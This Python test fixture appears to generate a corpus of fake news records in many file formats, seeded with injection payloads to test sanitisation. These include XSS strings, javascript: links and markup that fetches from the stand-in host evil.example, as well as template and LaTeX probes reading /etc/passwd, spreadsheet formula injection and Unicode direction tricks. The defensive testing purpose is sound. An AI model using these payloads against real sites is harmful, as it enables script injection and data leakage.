"""A corpus that tries to run, to fetch and to mislead, in every format that is read."""

import json
import zipfile
from pathlib import Path

import docx
import openpyxl
import pandas as pd
from documents import pdf

HOST = "evil.example"
OWNED = "window.owned=1"
ATTACKS = [
    f"<script>{OWNED}</script>",
    f"<script src=//{HOST}/a.js></script>",
    f"<img src=http://{HOST}/x.png onerror={OWNED}>",
    f"<svg onload={OWNED}><animate onbegin={OWNED}></svg>",
    f"<a href=javascript:{OWNED}>click</a>",
    f"<span style=background:url(http://{HOST}/s.png)>red</span>",
    f"<style>@import url(http://{HOST}/s.css)</style>",
    f"<iframe src=http://{HOST}/ srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<link rel=preconnect href=http://{HOST}><meta http-equiv=refresh content=0;url=//{HOST}>",
    f"</script><script>{OWNED}</script></textarea></title></style><!--",
    f"{{{{ 7*7 }}}} {{% include 'x' %}} ${{{OWNED}}} %{{x}} <!--onrecord:script-->",
    f"$\\href{{javascript:{OWNED}}}{{x}}$ \\[\\unicode{{x}}\\] $$\\input{{/etc/passwd}}$$",
    f"![x](http://{HOST}/m.png) [x](javascript:{OWNED}) `<b>`",
    f"graph TD; A-->B; click A href 'javascript:{OWNED}'",
    "\u202egnp.exe\u202c zero\u200bwidth \ufeffmark \u2066turned\u2069",
    '=HYPERLINK("http://evil.example","x") @SUM(1) +1 -1',
    "&lt;script&gt;window.owned=1&lt;/script&gt; &#60;img src=x&#62;",
]
SPEAKER = "Ada <img src=x onerror=window.owned=1> Quist"
OUTLET = f"<script>{OWNED}</script> Gazette"


def text(number):
    """An article whose words are attacks, said by somebody."""
    lines = [f"Envoy number {number} <b>warns</b> Norway of {ATTACKS[number % len(ATTACKS)]}"]
    for attack in ATTACKS:
        lines.append(f"“Norway broke its word {attack} again,” Foreign Minister {SPEAKER} said.")
    lines.append(f"Minister Bo Lund said that Norway, {ATTACKS[number % 7]}, had failed Sweden.")
    lines.append(f"This is report {number} of the talks between Norway and Sweden in Oslo.")
    return "\n".join(lines)


def record(number):
    """The same as a record with metadata that are markup too."""
    title, _, body = text(number).partition("\n")
    return {
        "title": title, "text": body, "outlet": OUTLET, "date": f"2031-03-{number + 1:02d}",
        "author": SPEAKER, "url": f"javascript:{OWNED}",
    }  # fmt: skip


def printable(line):
    """A line as a PDF holds it: plain ASCII, its brackets and backslashes marked."""
    line = line.translate({0x201C: '"', 0x201D: '"'}).encode("ascii", "ignore").decode()
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def write(folder: Path) -> Path:
    """One file of each format; names of files are markup where the disk allows it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "<img src=x onerror=window.owned=1>.txt").write_text(text(0), "utf-8")
    front = f"---\ntitle: '<script>{OWNED}</script>'\noutlet: '<u>x</u>'\n---\n"
    (folder / "a.md").write_text(front + text(1), "utf-8")
    paragraphs = "".join(f"<p>{line}</p>" for line in text(2).split("\n"))
    (folder / "a.html").write_text(
        f"<html><head><title>Norway <b>and</b></title></head><body><article><h1>Norway</h1>"
        f"{paragraphs}</article></body></html>",
        "utf-8",
    )
    (folder / "a.json").write_text(json.dumps([record(3)]), "utf-8")
    (folder / "a.jsonl").write_text(json.dumps(record(4)) + "\n", "utf-8")
    pd.DataFrame([record(5)]).to_csv(folder / "a.csv", index=False)
    pd.DataFrame([record(6)]).to_csv(folder / "a.tsv", index=False, sep="\t")
    pd.DataFrame([record(7)]).to_parquet(folder / "a.parquet")
    book = openpyxl.Workbook()
    book.active.append(list(record(8)))
    book.active.append([f"'{v}" if v.startswith("=") else v for v in record(8).values()])
    book.save(folder / "a.xlsx")
    document = docx.Document()
    for line in text(9).split("\n"):
        document.add_paragraph(line.replace("\u202e", "").replace("\ufeff", ""))
    document.save(folder / "a.docx")
    (folder / "a.pdf").write_bytes(pdf([line for line in map(printable, text(11).split("\n"))]))
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        archive.writestr("inner/<b onclick=window.owned=1>.txt", text(10))
    return folder
